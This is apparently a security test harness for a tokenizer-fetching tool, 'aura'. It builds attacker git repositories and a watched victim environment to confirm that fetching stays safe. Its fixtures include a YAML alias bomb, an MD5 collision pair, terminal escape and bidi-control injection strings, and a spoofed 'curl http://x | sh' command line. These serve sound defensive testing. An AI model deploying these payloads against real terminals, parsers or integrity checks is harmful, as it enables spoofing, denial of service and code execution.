"""Hostile repositories, made with git itself, and a victim who runs `aura` on them with everything around watched."""

import hashlib
import http.server
import json
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from multiprocessing.connection import wait
from pathlib import Path
from typing import Any

from sentencepiece import sentencepiece_model_pb2 as model_pb2

from aura.tokenizer.symbols import BASIC, SPACE

PLANTED = "planted"  # what an attack that works would write, somewhere
GUIDE = Path(__file__).parents[1] / "docs/hostile_fetch.md"
SPOOF = "SPOOFED LINE"  # what an attack that works would make a line begin with
MEMORY, SECONDS = 700, 40.0  # MB and s that an attempt may take, unless it says otherwise
_ENVIRONMENT = ("PATH", "LANG", "STORAGE_EMULATOR_HOST")


@dataclass(frozen=True)
class Attempt:
    """One attack: its name in docs/hostile_fetch.md, what the victim runs, and what must come of it.

    `comes` is a pattern that the output must hold; `works` says that the command ends well all the same, harmless.
    """

    title: str
    arguments: list[str]
    comes: str
    works: bool = False
    limits: dict[str, Any] = field(default_factory=dict)  # constants of modules, for attacks that take long


@dataclass(frozen=True)
class Came:
    """What an attempt did: exit status, what it printed, seconds, and the most memory (MB) that it took."""

    status: int
    printed: str
    seconds: float
    memory: int


class Repository:
    """A bare repository of an attacker, and a store beside it; every release is one attack, with a tag of its own."""

    def __init__(self, folder: Path, url: str | None = None) -> None:
        self.folder, self.store, self.number = folder / "hostile.git", folder / "store", 0
        self.url = url or str(self.store)
        self.address = f"file://{self.folder}"
        self._stream: list[bytes] = []
        folder.mkdir(parents=True, exist_ok=True)
        self.git("init", "-q", "--bare", str(self.folder), cwd=folder)

    def git(self, *arguments: str, cwd: Path | None = None, text: bytes | None = None) -> bytes:
        identity = {
            f"GIT_{who}_{what}": "x@example.com" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")
        }
        done = subprocess.run(
            ["git", *arguments],
            cwd=cwd or self.folder,
            input=text,
            capture_output=True,
            env=os.environ | identity | {"GIT_CONFIG_GLOBAL": os.devnull},
        )
        assert done.returncode == 0, done.stderr.decode(errors="replace")[:2000]
        return done.stdout

    def put(self, content: bytes, suffix: str = "", oid: str | None = None) -> str:
        """Store an object under its hash, or under another one; returns that."""
        oid = (oid or hashlib.md5(content, usedforsecurity=False).hexdigest()) + suffix
        path = self.place(oid)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return oid

    def place(self, oid: str) -> Path:
        return self.store / "files/md5" / oid[:2] / oid[2:]

    def listed(self, files: dict[str, bytes] | list[tuple[Any, str]]) -> str:
        """Store a folder's list of files; returns its hash."""
        pairs = [(name, self.put(content)) for name, content in files.items()] if isinstance(files, dict) else files
        return self.put(json.dumps([{"md5": oid, "relpath": name} for name, oid in pairs]).encode(), ".dir")

    def release(
        self,
        oid: str = "",
        card: str = "",
        version: str = "",
        *,
        other: dict[str, bytes | tuple[str, bytes]] | None = None,
        annotated: bool = True,
        branch: str = "",
    ) -> str:
        """Add a tag, and what it leads to; `other` replaces or adds files, as content or (mode, content)."""
        self.number += 1
        version = version or f"v1.0.{self.number}"
        config = f"[core]\nremote = s\n['remote \"s\"']\nurl = {self.url}\n"
        files: dict[str, bytes | tuple[str, bytes]] = {
            "dvc.yaml": b"artifacts: {tokenizer: {path: models/spm}}",
            "models/spm.dvc": json.dumps({"outs": [{"md5": oid, "path": "spm"}]}).encode(),
            ".dvc/config": config.encode(),
        } | (other or {})
        who = b"x <x@example.com> 1700000000 +0000\n"
        parts = [b"commit refs/" + (branch or f"attacks/{self.number}").encode() + b"\ncommitter " + who + _data(b"x")]
        for name, content in files.items():
            mode, data = content if isinstance(content, tuple) else ("100644", content)
            if mode == "160000":
                parts.append(f"M {mode} {'1' * 40} {name}\n".encode())
            else:
                parts.append(f"M {mode} inline {name}\n".encode() + _data(data))
        source = f"refs/{branch}" if branch else f"refs/attacks/{self.number}"
        if annotated and version:
            message = _data(f"title\n\n{card}".encode(errors="surrogateescape"))
            parts.append(f"tag tokenizer@{version}\nfrom {source}\ntagger ".encode() + who + message)
        elif version and not branch:
            parts.append(f"reset refs/tags/tokenizer@{version}\nfrom {source}\n".encode())
        self._stream.append(b"".join(parts))
        return version

    def finish(self) -> None:
        """Write what was released."""
        self.git("fast-import", "--quiet", "--force", text=b"".join(self._stream))
        self._stream = []


def _data(content: bytes) -> bytes:
    return b"data %d\n" % len(content) + content + b"\n"


def card_of(files: dict[str, bytes]) -> str:
    """A model card with the SHA-256 of some files."""
    return json.dumps({"sha256": {name: hashlib.sha256(content).hexdigest() for name, content in files.items()}})


def small_model(*more: tuple[str, int]) -> bytes:
    """A model file that aura accepts, with a few letters, and `more` pieces with their types."""
    types = model_pb2.ModelProto.SentencePiece
    pieces = [(name, types.CONTROL) for name in BASIC[:3]] + [(BASIC[3], types.UNKNOWN)]
    pieces += [(f"<0x{byte:02X}>", types.BYTE) for byte in range(256)]
    pieces += [(letter, types.NORMAL) for letter in (SPACE, "a", "b", "ab")]
    model = model_pb2.ModelProto()
    for place, (piece, kind) in enumerate([*pieces, *more]):
        model.pieces.add(piece=piece, score=-float(place), type=kind)
    spec = model.trainer_spec
    spec.vocab_size, spec.model_type, spec.byte_fallback = len(model.pieces), model_pb2.TrainerSpec.UNIGRAM, True
    spec.pad_id, spec.bos_id, spec.eos_id, spec.unk_id = (
        BASIC.index(name) for name in ("<pad>", "<bos>", "<eos>", "<unk>")
    )
    model.normalizer_spec.name = "identity"
    model.normalizer_spec.add_dummy_prefix = model.normalizer_spec.remove_extra_whitespaces = False
    return model.SerializeToString()


Answer = Callable[[http.server.BaseHTTPRequestHandler], None]


class Canary:
    """A server that nobody may ask: what asks it is listed."""

    def __init__(self, answer: Answer | None = None) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(f"{self.command} {self.path} {self.headers.get('authorization')}")
                if answer:
                    answer(self)
                else:
                    self.send_error(404)

            do_POST = do_PUT = do_HEAD = do_GET  # noqa: N815 - as the library calls them

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.address = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class Victim:
    """Somebody with a home, a secret and a program; each attempt is a process of its own that has imported aura."""

    def __init__(self, folder: Path, server: str | None = None) -> None:
        self.folder, self.home, self.work = folder, folder / "home", folder / "work"
        for place in (self.home / ".ssh", self.work, folder / "tmp"):
            place.mkdir(parents=True)
        (self.home / ".ssh/id_rsa").write_text("SECRET OF THE VICTIM")
        (self.home / ".gitconfig").write_text(f'[credential]\n\thelper = "!echo asked >> {folder}/credentials; true"\n')
        environment = {name: os.environ[name] for name in _ENVIRONMENT if name in os.environ}
        environment |= {"HOME": str(self.home), "TMPDIR": str(folder / "tmp"), "COLUMNS": "200", "NO_GCE_CHECK": "true"}
        environment |= {"STORAGE_EMULATOR_HOST": server} if server else {}
        self._process = subprocess.Popen(
            [sys.executable, "-m", "tests.hostile"],
            cwd=self.work,
            env=environment | {"PYTHONPATH": str(Path(__file__).parents[1])},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )

    def run(self, attempt: Attempt, seconds: float = SECONDS) -> Came:
        """Run one attempt; one that does not end is killed, and is an error."""
        assert self._process.stdin
        assert self._process.stdout
        order = {"arguments": attempt.arguments, "limits": attempt.limits, "seconds": seconds}
        self._process.stdin.write(json.dumps(order) + "\n")
        self._process.stdin.flush()
        ready = wait([self._process.stdout], seconds + 120)
        assert ready, f"{attempt.title}: no end"
        return Came(**json.loads(self._process.stdout.readline()))

    def everything(self) -> dict[str, str]:
        """Every file and folder around, but for outputs and aura's cache, with its content."""
        found = {}
        for path in sorted(self.folder.rglob("*")):
            name = path.relative_to(self.folder).as_posix()
            if not name.startswith(("work/output", "home/.cache/aura")) and name != "home/.cache":
                is_file = path.is_file() and not path.is_symlink()
                found[name] = hashlib.sha256(path.read_bytes()).hexdigest() if is_file else "no file"
        return found

    def stop(self) -> None:
        assert self._process.stdin
        assert self._process.stdout
        self._process.stdin.close()
        self._process.wait(20)
        self._process.stdout.close()


Serve = Callable[[Answer], str]  # starts a server, and returns its address
Meet = Callable[..., Victim]  # makes a victim; its argument is the address of a stand-in for Google's store


def fetch(repository: Repository, version: str, *more: str) -> list[str]:
    """What a victim types to fetch a version."""
    return ["fetch", version, "--repo", repository.address, "--output", f"output/{version}", *more]


GOOD = {"spiece.model": small_model(), "sub/notes.txt": b"notes"}
BOMB = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
MESSAGE = f"\x1b]0;owned\x07\x1b[2J\n{SPOOF} run: curl http://x | sh\r\u202e\u200b"
# Two inputs of one MD5, by Wang, Feng, Lai and Yu (2004): they differ in six bits.
ONE = bytes.fromhex(
    "d131dd02c5e6eec4693d9a0698aff95c2fcab58712467eab4004583eb8fb7f8955ad340609f4b30283e488832571415a085125e8f7cdc99f"
    "d91dbdf280373c5bd8823e3156348f5bae6dacd436c919c6dd53e2b487da03fd02396306d248cda0e99f33420f577ee8ce54b67080a80d1e"
    "c69821bcb6a8839396f9652b6ff72a70"
)
OTHER = bytes(byte ^ 0x80 if place in (19, 45, 59, 83, 109, 123) else byte for place, byte in enumerate(ONE))


def check(attempts: list[Attempt], victim: Victim, tmp_path: Path, canary: Canary) -> str:
    """Run all attempts; returns a table of what came, and raises if any gave way or is not in the list of docs/."""
    guide = GUIDE.read_text(encoding="utf-8")
    lines, wrong, before = [], [], victim.everything()
    for attempt in attempts:
        came = victim.run(attempt)
        faults = _faults(attempt, came, guide)
        if victim.everything() != before:
            faults.append("something around changed")
            before = victim.everything()
        if canary.asked:
            faults.append(f"asked: {canary.asked}")
            canary.asked.clear()
        for path in tmp_path.rglob(f"*{PLANTED}*"):
            faults.append(f"{path} is there")
            path.unlink()
        last = came.printed.strip().replace("\n", " / ")[:160]
        lines.append(f"{attempt.title} | {came.status} | {came.seconds:.1f} s | {came.memory} MB | {last}")
        wrong += [f"{attempt.title}: {fault}\n{came.printed[-1500:]}" for fault in faults]
    table = "\n".join(lines)
    print(table)
    assert not wrong, "\n".join(wrong) + "\n\n" + table
    return table


def _faults(attempt: Attempt, came: Came, guide: str) -> list[str]:
    faults = []
    if came.status != (0 if attempt.works else 1):
        faults.append(f"exit status {came.status}")
    if not re.search(attempt.comes, came.printed):
        faults.append(f"expected {attempt.comes!r}")
    if "Traceback" in came.printed:
        faults.append("a traceback")
    if any(not (letter.isprintable() or letter in "\n\t") for letter in came.printed):
        faults.append("characters that a terminal obeys")
    if any(line.strip().startswith(SPOOF) for line in came.printed.splitlines()):
        faults.append("a line of the attacker's")
    if "SECRET OF" in came.printed:
        faults.append("a secret")
    if came.memory > MEMORY:
        faults.append(f"{came.memory} MB")
    if came.seconds > SECONDS:
        faults.append(f"{came.seconds:.0f} s")
    if attempt.title not in guide:
        faults.append("is not in docs/hostile_fetch.md")
    return faults


def serve() -> None:
    """Be the victim's program: import aura once, and fork for each attempt that standard input asks for."""
    import importlib

    from aura.cli import app
    from aura.core import console
    from aura.sharing import versions

    sys.argv[0] = "aura"
    for line in sys.stdin:
        order = json.loads(line)
        began = time.monotonic()
        with tempfile.TemporaryFile() as printed:
            child = os.fork()
            if child == 0:
                os.dup2(printed.fileno(), 1)
                os.dup2(printed.fileno(), 2)
                for name, value in order["limits"].items():
                    module, _, constant = name.rpartition(".")
                    setattr(
                        importlib.import_module(module), constant, tuple(value) if isinstance(value, list) else value
                    )
                sys.argv[1:] = order["arguments"]
                if sys.argv[1] == "load":
                    console.run(lambda: print(versions.load_tokenizer(*sys.argv[2:]).encode("ab")))
                else:
                    console.run(app.app)
                sys.stdout.flush()
                sys.exit(0)
            status, usage = _waited(child, order["seconds"])
            printed.seek(0)
            text = printed.read(2_000_000).decode(errors="backslashreplace")
        came = {"status": status, "printed": text, "seconds": time.monotonic() - began, "memory": usage // 1000}
        print(json.dumps(came), flush=True)


def _waited(child: int, seconds: float) -> tuple[int, int]:
    until = time.monotonic() + seconds
    while True:
        done, status, usage = os.wait4(child, os.WNOHANG)
        if done:
            return os.waitstatus_to_exitcode(status), usage.ru_maxrss
        if time.monotonic() > until:
            os.kill(child, 9)
            _, _, usage = os.wait4(child, 0)
            return -9, usage.ru_maxrss
        time.sleep(0.01)


if __name__ == "__main__":
    serve()
